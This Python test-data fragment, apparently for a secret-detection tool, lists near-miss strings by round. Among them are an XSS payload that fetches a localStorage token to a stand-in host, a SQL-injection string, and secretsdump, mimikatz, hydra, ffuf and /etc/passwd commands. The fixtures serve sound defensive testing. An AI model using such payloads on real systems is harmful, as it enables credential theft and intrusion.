        "Log in with Google and GitHub2FA later; log in with admin and admin on the test box.",
        "set `API_TOKEN` to `${VAULT_TOKEN}` in the workflow",
        "def pretty_print_table_header_row_style(): build-test-deploy-release-notes-draft",
        "abandon_abandon_abandon_abandon_abandon_about",
        # what the worked-on corpora's near misses showed (16 to 25), written anew
        "Shop API key (public, used in the site's JS, read-only): " + nq(26, HEX),
        "Failure Reason:\t\tUnknown user name or bad password.\nStatus:\t\t\t0xC000006D",
        "temporary password in the log (`grep temporary`). Torrent infohash: " + nq(40, HEX),
        '<script src="https://app.midtrans.com/snap/snap.js" data-client-key="SB-Mid-client-'
        + nq(16) + '"></script>',
        '{"destination":"U' + nq(32, HEX) + '","events":[{"type":"follow"}]}',
        "English vocabulary, week 3:\norbit, lizard, pepper, decade, tackle, evolve, romance, "
        "alarm, earth, pretty, cloth, iron\nWrite a sentence with each word.",
        "# secret: projects/1234567890/secrets/db-pass/versions/latest",
        '<String><Key>Password</Key><Value Protected="True">' + nq(32) + "</Value></String>",
        '{"cmd": "redis-cli -h cache -a \\"$REDIS_PASSWORD\\" ping"}',
        '{"command": "mysql -h 10.0.0.5 -u root -p shop", "description": "schema"}',
        "Identity: your student email\nPassword: your student portal password",
        "function set_password($user, $new_password, $skipOldPwdCheck = false) // patch@40211",
    ),
    # round 28: the third real sample's wrong marks that were still changed, written anew
    "round-28": (
        "docker run -d -e POSTGRES_PASSWORD=password postgres:16-alpine",
        'wget -qO- "https://dyn.example.org/nic/update?hostname=$HOST&token=$DDNS_TOKEN&myip="'
        " > /var/log/ddns.log",
        "AUTH_TYPE=ldap\nAUTHMETHOD=kerberos",
        "curl -X POST http://localhost:8080/login --data 'user=alice&password=abc&remember-me=on'",
        "- ✅ ~~API key 401 after the bot's PUT~~ — SOLVED 2024-03-02: the same key works again.",
        "La regla: `vault://` junto a un token real — **`vault://` no exime**.",
        "mysql -u admin -p\nmysql> show databases;",
        "Set-Cookie: remember-me=; path=/; Max-Age=0",
        "$session->checkCsrfToken(); // patch@20240311",
        "reset-password link clicked\n"
        "User-Agent: Mozilla/5.0 (X11) AppleWebKit/605.1.15 Safari/605.1",
        "[Budget sheet](https://docs.google.com/spreadsheet/ccc?key=0Bx7kLmPqRsTuVwXyZaBcDeFgHiJkLmNoPq"
        "&usp=sharing)",
        'expect "login:"; send "admin\\r"',
        'expect "Password:"; send "$env(SSH_PASS)\\r"',
        "رمز المنتج: AB-2231",
        "رمز الخصم: RAMADAN25",
        "访问令牌有效期：7200秒",
    ),
    "round-27": (
        "otpauth://totp/ACME%20Co:john.doe@email.com?secret=HXDMVJECJJWSRB3HWIZR4IFUGFTMXBOZ"
        "&issuer=ACME%20Co",
        "$ oathtool --totp -b GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ --now '2009-02-13 23:31:30 UTC'",
        "team_drive = 0AYV36q174Ovz0g5llgUk9PVA",
        "Torrent infohash: " + q(40, HEX),
        "GPIO pin 17 drives the relay; pin 2048 does not exist on this board",
        "ansible-playbook -i inventories/prod site.yml --ask-vault-pass --tags secrets",
        "- Caduca el 2025-09-30; ID del token en GitHub: 4815162 (no es el secreto).",
        "Kode garansi: OPPO-60260451",
        "Kode promo dipakai: GORIDEHEMAT",
        "echo 'hello' | cat -n",
        "MONITOR ups@localhost 1 upsmon (see /etc/nut/upsd.users) primary",
        # a login and its password under "ID/PW:": the login stays
        "ID/PW:\n- root // " + "[REDACTED:password]",
    ),
    "round-26": (
        "Steps: log in as admin (password in Vault: secret/grafana/admin) → 500",
        "Resolution notes: password rotated via CyberArk (safe: SVC-BACKUP), Veeam job updated.",
        "Sec-WebSocket-Key: " + q(22) + "==",
        '{"jsonrpc":"2.0","method":"notifications/progress","params":{"progressToken":"tok-'
        + quid() + '","progress":40}}',
        "Abholcode wird per App angezeigt · PLZ 10352",
        "Status...........: 2025-03-12, 1959 entries scanned",
        "Ihre Geheimzahl (PIN) erhalten Sie mit getrennter Post.\nDie Karte lautet auf: Max Muster",
        # the third real sample's wrong marks (read blind at the end), written anew
        "--- PASS: TestArchiveDownloaderSuite (0.20s)\n    --- PASS: "
        "TestArchiveDownloaderSuite/TestSingleArchive (0.10s)",
        "- Permission authorization: 只有当权限被授权给用户的活动角色时，用户才能行使权限",
        ">- Per passare a un'altra shell di root (chiederà la password di root): `su -`",
        "## Drawing\n```compressed-json\nN4KAkARALgngDgUwgLgAQQDwMYEMA2AlgCYBOuA7hADTgQBuCpAzo\n"
        + q(64, B64) + "\n```",
        "POST /forgot-password HTTP/1.1\nHost: shop.example\n\nusername=carlos",
        "  libp2pPubKey*: SkPublicKey\n  nodeInfo.libp2pPubKey,",
        "curl -s http://10.0.0.2:9100/.admin?cmd=status\\&CSRF_TOKEN\\=\\&format\\=JSON",
        "        $encrypted_new_password = $this->encrypt_password($new_password, $type);",
        "    $mail->Password = '.$password.';",
        "    fun login(email: String, password: String)",
        "- credentials: 登录凭证，一般就是密码，登录成功后，这个信息会被自动擦除",
        "   我们就得准备一个==session==来讨论讨论了，有问题的人在这个session上要被批斗喽。",
        "animal focus, eye focus, cloud focus, vehicle focus, weapon focus, soft focus",
    ),
    "round-25": (
        "Folie 4: Beispiele für schlechte Passwörter — 123456, passwort, hallo123, Schule2024!",
        "WIFI:T:WPA;S:mynetwork;P:mypass;;",
        "Alarmanlage Praxis: Wartungsvertrag Nr. 516404, Anlagennr. 08385288",
        "API key (client id): " + q(32, HEX),
        "  # password via keyring: `keyring set https://upload.pypi.org/legacy/ __token__`",
        "Code APE : 1071C",
        "Séneca: la contraseña la da iPasen por SMS. Código de centro: 41049702.",
        "WLAN: Livebox-B64F (5 GHz: Livebox-B64F-5G)",
        "contact@asso.example\nhttps://asso.example/adhesion",
        "Status code: 2004 (not an error)",
        "Postal code: 75011 Paris",
        "Schule 2025 – Kurs-Code: 4711 (Mathe LK)",
        "Session ID: " + quid(),
    ),
    "round-24": (
        "  window.ecwid_public_token = 'public_" + q(32) + "'; // storefront, read-only catalog",
        "Browser Exam Key: " + q(64, HEX),
        "DSK: 26854-67754-11944-63166-45900-30354-15227-43500",
        "Anlage: Telenot complex 200H, Zentrale S/N 69501571",
        "\t<Times><LastModificationTime>" + q(11) + "=</LastModificationTime></Times>",
        "set-cookie: csrftoken-policy=strict; Path=/",
        '{"id":"shellyplus1pm-' + q(12, HEX) + '","gen":2,"auth_en":true,"auth_domain":'
        '"shellyplus1pm-' + q(12, HEX) + '"}',
        "Humble Bundle order ABCDE-FGHIJ-KLMNO shipped (no key yet)",
        "Portón garaje comunidad: reparado el 12/03, factura 2024-118",
        "$ openssl rand -hex 8\n" + q(16, HEX),
        "Z-Wave JS UI → Security Keys\nS2_Authenticated: (not set)",
        "git remote: https://github.com/acme/theme.git (no credentials in the URL)",
        "the password policy requires Version2 — see the wiki",
        "- arreglar la contraseña del panel (03-ago)** — hoy el bot no se puede parar",
        "the password reset link (v2.1) — expired, ask again",
    ),
    "round-23": (
        '{"type":"reasoning","content":null,"encrypted_content":"gAAAAAB' + q(120, URLSAFE) + '"}',
        '{"type":"user","message":"@src/auth/ explain how the API key is loaded","ts":"2025-07"}',
        "$ cat config/credentials.yml.enc\n" + q(120, B64) + "--" + q(16, B64) + "--" + q(22, B64)
        + "==",
        "    password: ENC(" + q(64) + ")",
        "$ openssl rand -hex 12   # nonce for the test vector, thrown away\n" + q(24, HEX),
        "$ openssl rand -hex 16\n" + q(32, HEX) + "\n$ ls",
        "backup:*:1001:1001:Backup user:/home/backup:/bin/sh",
        "Twilio number +1 415 555 0100, list id 03dcc67a0c (not the key)",
        "bcrypt(password) takes the plaintext, never log it",
        "    Default: t3.micro\n  DBInstanceClass:\n    Type: String",
        # Razorpay's key id: Checkout puts it in the page (its secret is another value)
        'var options = {"key": "rzp_live_' + q(14) + '", "amount": "50000", "currency": "INR"};',
    ),
    "round-22": (
        "    # ipsec.secrets: %any : PSK %prompt",
        "- Password history: 24 passwords remembered",
        "-- surrogate key sample: " + q(32, HEX),
        "Event id 3926927371589016048 · aggregation key " + q(32, HEX) + " · host_id 4998936514",
        '{"status":"success","message":"Event processed","dedup_key":"' + q(32, HEX) + '"}',
        "New key stored in Credential record sys_id " + q(32, HEX) + ".",
        "Cookie: __cf_bm=" + q(43, URLSAFE),
        "Hashcat example hashes page (mode 0):\n8743b52063cd84097a65d1633f5c74f5:hashcat",
        "Mar  3 10:01:12 gw sshd[211]: Invalid user admin from 10.0.0.9 port 5022",
        "Status...........: Cracked (1/4213)",
        "impacket-secretsdump -just-dc-ntlm CORP/admin@10.0.0.5",
        "Fahrradschloss: Abus Bordo 6500, Schlüssel liegt im Flur",
        "Garagencode: siehe Zettel am Kühlschrank",
        "Default PIN is:\n0000",
        "Alarm system (Bosch), customer number 55120934: code on the card",
        # the held-out real notes' wrong marks (session 14's reading), written anew
        "PS> net user\n\nUser accounts for \\\\WS042\n-----\nAdministrator  Guest",
        '\t\t\t"groupIds": [\n\t\t\t\t"' + q(21) + '",\n\t\t\t\t"' + q(21) + '"\n\t\t\t],',
        "echo 'PHPSESSID='.base64_encode($obj);",
        "payload: `%27apikey=%27z%27onfocus=%27alert(2)`",
        "> **basic challenge-response protocol** for remote user auth",
        "$ AUTH_TOKEN=`kubectl get secret $NAME -o jsonpath='{.data.token}' | base64 -d`",
        "└─$ hashid '$2y$10$" + q(53, ALNUM + "./") + "'",
        "- Guest creds : Engineer, PhD, Historian",
        "Cookie: session=deadbeef; theme=dark",
        "<img src=x onerror=fetch('https://a.example/?token='+localStorage.token)>",
        "in one pass: Claude runs `xcodebuild`, then the tests",
        "$ cat /etc/passwd\nroot:x:0:0:root:/root:/bin/bash",
        "### 4. Update Your Code to TypeScript",
        "sent only as `Authorization: Bearer`.",
        "- Long Lived Token: integración privada → Keys and scopes",
        "`sudo mysql -u root -p`",
        "### RefreshToken: `Long`**",
        "Got the password:\nmsf6 > use exploit/multi/handler",
        '    "uid": "' + q(22) + '",',
        "$ echo '" + b64('O:9:"UserModel":1:{s:8:"username";s:5:"guest";}') + "' | base64 -d",
        "> la parola chiave per ereditare è `extends`",
        "backup:*:1001:1001:Backup user:/home/backup:/bin/sh",
        "recover-password `email_log` delivered 4s",
    ),
    "round-21": (
        # a command a comment mentions prints nothing: the next line is no secret's
        '# ask in #ops, or: op read "op://Dev/Maps API/credential"\n'
        "MAPS_BASE_URL=http://localhost:8443",
        # a wg show's peer is a public key, beside lines whose keys are hidden
        "interface: wg1\n  public key: " + q(43, B64) + "=\n  private key: (hidden)\n\n"
        "peer: " + q(43, B64) + "=\n  preshared key: (hidden)\n  allowed ips: 10.8.0.2/32",
        # a JSON-escaped patch: the value ends at its escaped break
        json.dumps({"type": "function_call", "name": "apply_patch", "arguments": json.dumps(
            {"input": "*** Update File: up.py\n@@\n-api_token = None\n+api_token = "
                      'os.environ["API_TOKEN"]\n*** End Patch'})}),
        json.dumps({"name": "update_plan", "arguments": json.dumps({"plan": [
            {"step": "Mask the token in deploy.yml with ::add-mask::", "status": "pending"}]})}),
        "Garage door opener: Chamberlain 4500W, keypad model 940EV",
        "Alarm system (Bosch)\nCustomer number: 55120934, panel type 3000AB",
        "Alarmanlage Büro: Wartung durch Firma Secura, Kundennummer 40739355",
        'curl -H "Authorization: Bearer $API_TOKEN" "$BASE_URL/v2/items" | jq .',
        "password: $dbPassword2",
        "enable secret 5 $1$pdQG$o8nrSzsGXeaduXrjlvKc91",
        "Phone zip code: 30942",
        # corpus 16 after its one run
        '    "UserId": "AROA6RYBHS4FS3QWWX2I:kuehn-sso",',
        "$env:GROQ_API_KEY = (Get-Secret -Name groq -AsPlainText)",
        '< WWW-Authenticate: Digest realm="printer", qop="auth", nonce="' + q(32, HEX)
        + '", opaque="' + q(32, HEX) + '"',
        "Content-Security-Policy: script-src 'nonce-" + q(22) + "==' 'strict-dynamic'",
        '{"jsonrpc":"2.0","id":29,"method":"tools/call","params":{"name":"query",'
        '"_meta":{"progressToken":"' + quid() + '"}}}',
        '\tmapboxToken = "pk.' + q(60, URLSAFE) + '" // public style token, URL-restricted',
        "Laptop (Dell Latitude 7440)\nBitLocker: on – recovery key saved in the Microsoft "
        "account\nService Tag: DPC091V",
        "$ pass show mail/work\nError: mail/work is not in the password store.",
        "[account work]\npassword_command = pass show mail/work\ntls = true",
        '{"name": "X-Request-Id", "value": "' + quid() + '"}',
        '{"name": "Content-Type", "value": "application/json"}',
        "wallet words to learn: imitate arena hover fragile sculpture donkey",
        "the pass is valid until Friday",
        # the real notes' sample after round 21: "pass" in prose, a router's model
        "Headers of our own mail: `dmarc=pass (p=QUARANTINE)`, `dkim=pass`",
        "append `# --graph-tried` as a comment to pass silently: `grep -rn TODO src/`",
        "- model name to pass to the API (default: `whisper-large-v3-turbo`)",
        "- WIFI PASSWORD: on the card on the fridge\n- Router: Hitron Coda 5810",
        '    client := search.NewClient("7QLE58KY3P", "' + q(32, HEX) + '") // search-only key,'
        " public",
    ),
    "round-17": (
        # what stands before or around a random value says it is no secret
        '{"type":"tool_result","tool_use_id":"toolu_01Kd9WqT2mZx7LpR4vN8sQ3b",'
        '"content":"password changed"}',
        "client_id = 7Tq2Wk9RmZx4Lp; the client secret lives in the vault",
        "Twilio Account SID: AC4f9e2b7c1d8a3e6f5b0c9d2e7a4f1b8c (auth token in 1Password)",
        "token refresh fixed in commit 9f3b2e7a1c4d8e6f0b5a9c2d7e4f1a8b3c6d9e2f",
        "sha256 of the release: 4a7d1ed414474e4033ac29ccb8653d9b"
        "4a7d1ed414474e4033ac29ccb8653d9b (the key is in the vault)",
        "Public Key: 7Tq2Wk9RmZx4LpQ8vN3sB6yH1cF5gJ0d",
        "[Peer]\nPublicKey = xTq2Wk9RmZx4LpQ8vN3sB6yH1cF5gJ0dK7eA2wR9tYs=",
        "$ wg pubkey < privatekey\nqH/y4D8ZfQ4Rcz+HhJcppz5METn7QDlI4whDHwsyMGA=",
        "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE5XovniQTF/LFNIvRhbvGTLAW\n"
        "-----END PUBLIC KEY-----",
        "mail._domainkey TXT \"v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQC7\"",
        "| Workflow | ID | Auth |\n|---|---|---|\n| Voice Intake | `Q1WB42g8GtyX3qnp` | OAuth |",
        "the wrapper checks auth first (`withApiAuth`, `withApiV1`)",
        "- [[Stop Wasting Tokens (01kqswype9xa6xgvb2z75d5tw7).md|Stop Wasting Tokens]]",
        "huggingface-cli download sentence-transformers/all-MiniLM-L6-v2 --token $HF_TOKEN",
        "backendCfg: ptr CircomBn254Cfg\nprivateKey: PrivateKey",
        "john --show hashes.txt\n0g 0:00:00:04 DONE 0g/s 100.0p/s 200.0C/s j957bjc6qczq2gpm",
        "const turn = angle ? angle : Math.PI*2; // key frames",
        "author: Tib3rius\ntags: passwords, cheatsheet",
        "password policy: minimum 12 characters, v2.14.0-rc.1 enforces it",
        "Secret ARN: arn:aws:secretsmanager:eu-west-1:281698135588:secret:prod/db-2tyHbl",
        "kind: SealedSecret\nspec:\n  encryptedData:\n"
        "    password: AgBay9l5UyQWEpkKROgbi5SxsjPbgxKtWliruDUdIJ+ie9eLGTih9YcA4gfWGtVvD5DYy7\n",
        "$ vault list auth/token/accessors\nKeys\n----\n7Z0eqfME2rKxyp8uiLpDeGkX\n"
        "TBZnohkjvqTwKPjI7uXVP4XT",
        "echo 'restarting cups' | sudo -S true  # asks for the password itself",
        # references, ids and prompts where a rule expects a value (the twelfth corpus)
        "Der neue Token kommt über Vault: secret/data/ci/registry-pull",
        "(the client secret is in Secret Manager: projects/app-prod/secrets/oauth-client)",
        "$db = new PDO('pgsql:host=db;dbname=shop;port=5432', getenv('U'), getenv('P'));",
        '<add key="MailPasswordSecretName" value="kv-shop/mail-password" />',
        'bridge:\n  room: "!q7Wk2TrZ9LmxPp:example.org"\n'
        '  last_event: "$Tq2W-k9RmZx4LpQ8vN3sB6yH1cF5gJ0dK7eA2wR9"',
        "otpauth://totp/Example:alice@example.com?secret=JBSWY3DPEHPK3PXP&issuer=Example"
        "&digits=6",
        "$ pg_dump -U postgres -W shop > shop.sql\nPassword:\n$ ls -la /srv | head -3",
        '"content": "[sudo] password for ops: \\nsudo: a password is required\\n"}',
        '{"input": {"command": "curl -s -H \\"Authorization: Bearer $TOKEN\\" '
        'https://api.example.com/v1/jobs/last"}}\n{"type": "tool_result", "content": '
        '"build 7Tq2Wk9RmZx4Lp finished\\n"}',
        '{"input": {"command": "echo $SESSION_KEY_ID"}}\n{"type": "tool_result", "content": '
        '"3f2a9c1e-8b7d-4e6f-a5c4-2d1e0f9a8b7c\\n"}',
        "Şifre politikası: en az 12 karakter, 90 günde bir değişir",
        # the thirteenth corpus's development half: local servers' dummy keys, documented
        # stand-ins and examples, ids beside a key's word
        'client = OpenAI(base_url="http://localhost:11434/v1", api_key="ollama")',
        "define( 'SECURE_AUTH_KEY',  'put your unique phrase here' );",
        'let password = std::env::var("APP_DB_PASSWORD")?;',
        '    seed = Mnemonic.to_seed(words, passphrase="TREZOR")',
        "https://examplebucket.s3.amazonaws.com/test.txt?X-Amz-Credential=AKIAIOSFODNN7EXAMPLE"
        "%2F20130524%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Signature="
        "aeeed9bbccd4d02ee5c0109b86d86835f995330da4c265957d157751f604d404",
        "Cache restored from key: Linux-node-" + "3f9c2e7a1b4d8e6f0a5c9b2d7e4f1a8b" * 2,
        "Figma : https://www.figma.com/design/Qk7Wm2TrZ9LxPpB4vN8sY3/Icons\n"
        "Clé du fichier : Qk7Wm2TrZ9LxPpB4vN8sY3",
        "enable secret 5 $1$mERr$hx5rVt7rPNoS4wqbXKX7m0",
        "Tracking: 1234-5678-9012, Hotline +49-30-1234-5678",
        "<Server>\n  <Host>sftp.example.org</Host>\n  <Pass>askme</Pass>\n</Server>",
        '{"role": "user", "content": "which token expired?"}\n'
        '{"role": "user", "content": "the one for build 7Tq2Wk9RmZx4Lp, see the CI page"}',
        # the held-out real notes' wrong marks: a drawing's block ids after "key", a C
        # parameter named for a key, a share's UID
        "the key for the legend ^Xk9Qm2Tz\nrotate the key ^B7eRw4Pq",
        "NTSTATUS Xor(IN PBYTE pXorKey, IN DWORD dwXorKey2Size, IN DWORD cbData);",
        "Shared memo (the key is in the link)\nUID: 7rKq2WmZ9xTbLp4Nc8sVy",
        # what the reading found wrong with older rules: a host and port handed to a connect
        # call, hydra's and ffuf's stand-ins, a secret's name after kubectl's verb
        'client = Elastic().connectTo("localhost:9200", "localhost:9201")',
        'hydra -l admin -P rockyou.txt 10.0.0.5 http-post-form "/login:u=^USER^&p=^PASS^:F=bad"',
        'ffuf -u http://10.0.0.5/login -d "user=UFUZZ&password=PFUZZ" -w users.txt:UFUZZ',
        "$ kubectl get secret registry-token-9xk2q -o yaml",
        "mycli -h 10.0.0.9 -u shop_user -p shop_orders_db",
        'ppu: "(price / age).toFixed(2)"',
        "Ana: what's the token for the build cache?\nBen: no idea, ask ops\n"
        "Ana: found it in the wiki, build 7Tq2Wk9RmZx4Lp",
        "$ wg show\ninterface: wg0\n  public key: AiSGRqpQdmLrAXsRihwVslpUKxDuM6zn8J4oVY5HLfM=\n"
        "  listening port: 51820\npeer: Qm7Tz2RwK9xLpB4vN8sY3cF5gJ0dK7eA2wR9tYs1uI6=",
        "le code wifi est sur l'étiquette du routeur",
        "Kombination: rechts – links – rechts, dann ziehen",
        "password retry policy\nMaxRetries=5 Timeout=3000",
        "PUBLIC_STOREFRONT_API_TOKEN=9c2e7b4d1f0a8c6e5d3b2a1f0e9d8c7b   # public token, OK in "
        "client bundle",
        "NAS admin password: see the safe\nhost: Nas.Backup.Local.2024.example.org",
        "Key ID: ABC123DEF456GH\nProject code: PRJ4423GN7X",
        "secret: MyVeryLongSecretName\nkey: getElementsByTagName",
        "the whole input fits in the context of **GPT-5 / GPT-5-mini** here",
        "Parcel reference (keep it):\n\n   k2m4 x7qa pl3z 9vrt",
        "Nonna: il codice fiscale è nel cassetto, il codice 404 vuol dire pagina mancante.",
        "error: the following arguments are required: -u/--url, -usr/--username, -psw/--password",
        """ldapsearch -x -D 'CORP\\ana' -W -b "CN=Users,DC=corp,DC=local" '(sAMAccountName=ana)'""",
        # the fourteenth corpus's changed near misses, written anew: redis.conf's documented
        # example, a cmdlet, a SealedSecret in a diff, a Java class, a placeholder in Spanish
        "# requirepass foobared",
        "device: KQWERTY01, curve25519 key q7Wk2TrZ9LxPpB4vN8sY3cF5gJ0dK7eA2wR9tYs1uI6",
        "ledger entry registered (prod=main=227); password reset works again",
        '{"predicate": ["(new_token#192017 = token#191847)"]}',
        '$pw = Read-Host -AsSecureString "new password"',
        "+kind: SealedSecret\n+spec:\n+  encryptedData:\n"
        "+    root-password: AgB7kQ2mZ9xLpW4vN8sY3cF5gJ0dK7eA2wR9tYs1uI6oP3qL5zX8",
        '<Connector port="8443" protocol="org.apache.coyote.http11.Http11Nio2Protocol" />',
        'export YOUTUBE_API_KEY="tu-clave-aqui"',
        # recovery phrases: a test vector, prose full of the list's words
        "BIP-39 test vector: abandon abandon abandon abandon abandon abandon abandon abandon "
        "abandon abandon abandon about",
        "keep the seed phrase on paper: never type the words into a phone, a laptop or a "
        "cloud note, and check each word against the list",
        "about above absent absorb abstract absurd abuse access accident account accuse "
        "achieve acid and the rest of the list",
    ),
    "round-16": (
        '"output": "Enter LDAP Password: \\ndn: uid=mferreira,ou=people,dc=uni-lab,dc=org"',
        '"output": "Enter password: \\nERROR 1045 (28000): Access denied for user \'root\'"',
        '    "CodeSha256": "rw6iQqofczpM+8IcypNQt4pvaAeNPBpG/Yr6dNmv940=",',
        "auth:\n  username: cooperativa\n  existingSecret: pg-cooperativa",
        ".youtube.com\tTRUE\t/\tTRUE\t1781000000\tPREF\ttz=Europe.Madrid&f6=40000000",
        "# .env.example\nCLERK_WEBHOOK_SIGNING_SECRET=whsec_<copy from the Clerk dashboard>",
        "rocommunity public 10.0.0.0/24",
    ),
    "round-15": (
        "Un access token JWT es **stateless**: válido hasta `exp` sin tocar BD.",
        "> \tString parola = in.next();",
        "## Workflow n8n (`O80k1QzfSkJUgzkD`)",
        '*La credencial no existía*: `Credential with ID "R9aMmpO1jdJ8XPJP" does not exist`.',
        '$pass = "\' OR \'1\'=\'1\'";',
        "report-uri /csp-report?token=filler; script-src-elem 'none'",
        "      new_user = User(username=username, password=password)",
        "Password is [bcrypt](https://www.example.org/online-tools/bcrypt-hash-generator) hashed",
        "smbclient -U '%' -N \\\\<IP>\\<SHARE> # null session",
        "ldapsearch -x -H ldap://ad -D admin -w ******** -b uid=claude,ou=people,dc=example,dc=net",
        "function fetchDocuments(apiUrl: string, token: string) {",
        '    "token": {"$ne": null},',
        "mimikatz # token::elevate",
        "[^GITHUB_TOKEN]: [Investigating Impact of exposed GITHUB_TOKEN](../Readwise/x.md)",
        "Token คือสตริงยาวของตัวเลขและตัวอักษร โดยทั่วไปจะเริ่มต้นด้วย `pat`",
        "(500 en token inválido/revocado: `ErrorScreen` server llamaba `buttonClassName`)",
        "SSH: `root@185.47.13.170 -p 5251` (clave id_ed25519 ya autorizada)",
        '<add key="ClearTextPassword" value="%AZDO_FEED_PAT%" />',
        "PUBLIC KEY: fca13866eddd1bfa1eb6e6bd4f21ae268392a2f8a1eed433febcc51b0baa7605",
        "Set-Cookie: PHPSESSID=deleted; expires=Thu, 01-Jan-1970 00:00:01 GMT; Max-Age=0",
        "[user]\n    name = Miguel\n    signingkey = 4CCB40840E4A684D",
        "Idempotency-Key: f3b8deb2-220d-4c1c-b7bd-24f5b805f860",
        # what real public vaults showed (written anew, same shapes)
        "workflow voz `zYcHHa8jWXB6dY5i` ya tiene un AI Agent",
        "| Voice Process | `KVk45rJARQk0EKaF` | Procesar audio |",
        '   Str = Str + "EYAcgBvAG0AQgBhAHMAZQA2ADQAUwB0AHIAaQBuAGcAKAAnAEg"',
        "    jData = { 'username': userName, 'password': userPwd }",
        "    password = data['password']",
        "passwd = File.open '/etc/passwd'",
        "pat = sys.argv[1]; results = []",
        '    "credentials": "include",',
        "leaks an access token to the attacker[#](https://example.org/posts/x#victim)",
        "    privateKey: PrivateKey",
        "Reescrito `client.ts` a v2 (`Authorization: Bearer`, paginación cursor)",
    ),
    "round-14": (
        "y la combinación de las doce medidas con la suma exacta (3748).",
        "Password reset:\n- the link expires after 30 minutes",
        "set-cookie: ab_variant=checkout_v2; Path=/; Max-Age=604800",
        "1Password Secret Key format: `A3-XXXXXX-XXXXXX-XXXXX-XXXXX-XXXXX-XXXXX`.",
        "KW 12: Urlaub\nKw: siehe KeePass",
        "The alarm panel beeps for 30 s, then 2 4 6 8 are the zones",
        "I still have one backup code: somewhere in my drawer",
        "[21:14] Javi: te paso la clave privada mañana\n[21:14] Javi: vale, gracias por todo!",
        "Q: what is the security question for?\nA: it protects the account reset",
        "api_key=\"test-api-key\",\n        db_password=\"not-a-real-password\",",
    ),
    "round-13": (
        # what real public vaults showed the round's rules taking (written anew, same shapes)
        "Product ID:                00330-80012-44910-AA517",
        'echo ("current token is :" . generateRandomString(32)." \\n");',
        "[*] /input/Pass Safe_1.4.2_mirror.example.apk!classes.dex",
        "          password: await bcrypt.hash(newPassword, 10),",
        "If you lost your recovery codes, email "
        "[us](mailto:help@example.org?subject=I%20lost%20my%202FA)",
        "דוגמה: `file:.jpg` או `file:202209` בכספת",
        "a powerful combination. It ([Location 2541](https://readwise.io/to_kindle?location=2541))",
        "* Password : (null)",
        "| Model | Tokens | Cost |\n|---|---|---|\n| gpt-4o | 512,664 | 91.5% |",
        "| Key | Action |\n|---|---|\n| Ctrl+K | insert link |\n| Cmd+Shift+P | palette |",
        "| Package | License | Version |\n|---|---|---|\n| requests | Apache-2.0 | 2.32.3 |",
        "| Service | Token budget |\n|---|---|\n| search | 4,944 |",
        "    Authorization: AWS4-HMAC-SHA256\n"
        "      Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1",
        '{"command":"curl -s --header \\"PRIVATE-TOKEN: $GITLAB_TOKEN\\" \\"https://gl/api\\""}',
        "AUTH0_CLIENT_ID='PslAbb8OEayAR4rAvAbeJJpsqqt82iVL'\nAUTH0_AUDIENCE='https://api.x.de'",
        "  data:\n    - secretKey: PAPERLESS_API_TOKEN\n      remoteRef: { key: secret/data/p }",
        "    val API_KEY: String = BuildConfig.OWM_API_KEY",
        ".github.com\tTRUE\t/\tTRUE\t1767225600\t_octo\tGH1.1.6668548611.7679026954",
        "秘密の質問：初めて飼ったペットの名前は？\n答え：（メモしない）",
        "Pregunta: ¿ciudad de nacimiento?\nRespuesta: ver KeePass",
        "[19:31] Mikko: what was the wifi password?\n[19:33] Laura: ask Tom",
        '{"content":"can you fill in the security question form for me?"},'
        '"uuid":"f39037ba-a1dd-426f-8f2d-c8d5cace6c1d","sessionId":"54bec246-738e-45ae-8cc8-17c28e647c4e"}',
    ),
    "round-12": (
        "Rete Wi-Fi: Casa-Olmo-Ospiti\nPassword: chiedere a Giulia (la cambia ogni mese)",
        "Beispiel-JWT aus der Doku (jwt.io), nur zum Testen des Parsers:\n"
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwi"
        "aWF0IjoxNTE2MjM5MDIyfQ.SflKxwRJSFMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
        "Generic KMS client setup key for Windows 10/11 Pro (from Microsoft's public GVLK "
        "table): W269N-WFGWX-YVC9B-4J6C9-T83GX",
        "Mailbox-PIN: über die 5500 abfragen, die PIN steht im Vertrag",
        "GitHub recovery codes (downloaded 2024-02-03):\nstored in 1Password, vault Private",
        "codice postale 20121 e codice fiscale nel modulo",
        "Sicherheitsfrage: siehe KeePass",
        "name,url,username,password\nmeine-aok,https://meine.aok.de/,b.s,\n",
    ),
    "round-11": (
        "Paste your private key into the `SSH_PRIVATE_KEY` secret. It must start with "
        "`-----BEGIN OPENSSH PRIVATE KEY-----` and end with `-----END OPENSSH PRIVATE KEY-----`.",
        "ALTER ROLE report_ro WITH PASSWORD :'new_password' VALID UNTIL '2024-12-31';",
        "$ systemd-creds encrypt --name=db - /etc/credstore/db\nPassword: (typed, not echoed)",
        "Password: required\nPasswort: vergessen\nKennwort: siehe KeePass",
        "Password: must be at least 12 characters long",
        "amqp://USER:PASSWORD@HOST:5672/VHOST",
        '{ nkey: "UCNSU4F4HHXZYISQI5THIR3MP2IOAFXP3UBLW2MBKAFOLIUWMPGIW5KV" }',
        "advanced:\n  network_key: GENERATE\n  pan_id: GENERATE",
        "路由器型号：TP-Link AX3000，序列号 22215H1003741，固件 1.1.6",
        "| App | Serial | Seats |\n|---|---|---|\n| Affinity Photo 2 | XXXX-XXXX-XXXX-XXXX | 1 |\n"
        "| Little Snitch 6 | (see email) | 1 |",
        "| Service | Password hint | Where |\n|---|---|---|\n"
        "| Bank | dog's name + 1987 | KeePass |",
        "| Device | Serial | Room |\n|---|---|---|\n| Router | 22215H1003741 | hall |",
        "$ sha256sum app.tar.gz | xxd -r -p | base64\n"
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "Le mdp du compte est dans le gestionnaire, ne le partage pas",
    ),
    "round-10": (
        "$ vault kv get -field=password secret/prod/db\nError: permission denied",
        '$ security find-generic-password -wa "Home"\nsecurity: SecKeychainSearchCopyNext: '
        "The specified item could not be found in the keychain.",
        "set -gx ALGOLIA_APP_ID Z9SIDBZVCG",
        "$ wg pubkey < privatekey > publickey\n$ cat publickey\n"
